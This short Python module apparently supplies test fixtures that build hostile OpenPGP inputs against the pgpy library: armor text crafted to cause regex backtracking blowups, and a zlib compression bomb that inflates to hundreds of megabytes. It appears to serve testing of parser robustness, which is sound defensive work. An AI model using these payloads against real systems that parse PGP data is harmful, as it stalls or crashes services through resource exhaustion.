"""Hostile OpenPGP inputs that stall or bloat pgpy when parsed in-process."""

from __future__ import annotations

import struct
import zlib


def hostile_armor(lines: int = 28) -> bytes:
    """Signed-message framing around CRLF lines: every line doubles pgpy's regex work."""
    return (
        "-----BEGIN PGP SIGNED MESSAGE-----\r\n"
        + "a\r\n" * lines
        + "-----BEGIN PGP PUBLIC KEY BLOCK-----\r\n\r\nAAAA\r\n"
        + "-----END PGP PUBLIC KEY BLOCK-----\r\n"
    ).encode()


def hostile_headers(lines: int = 12) -> bytes:
    """Armor header lines with many ": " each: pgpy's header group can split every line at
    any of them, and tries every combination when the body then fails to match."""
    return (
        "-----BEGIN PGP PUBLIC KEY BLOCK-----\n"
        + ("a: " * 8 + "a\n") * lines
        + "\n!!!!\n-----END PGP PUBLIC KEY BLOCK-----\n"
    ).encode()


def compression_bomb(inflated: int = 400 * 1024 * 1024) -> bytes:
    """A compressed-data packet (ZLIB) holding one literal packet of `inflated` zero bytes."""
    literal_header = (
        bytes([0xC0 | 11, 0xFF]) + struct.pack(">I", inflated + 6) + b"b\x00\x00\x00\x00\x00"
    )
    packer = zlib.compressobj(9)
    parts = [packer.compress(literal_header)]
    zeros = bytes(1 << 20)
    parts.extend(packer.compress(zeros) for _ in range(inflated >> 20))
    parts.append(packer.flush())
    body = b"\x02" + b"".join(parts)
    return bytes([0xC0 | 8, 0xFF]) + struct.pack(">I", len(body)) + body
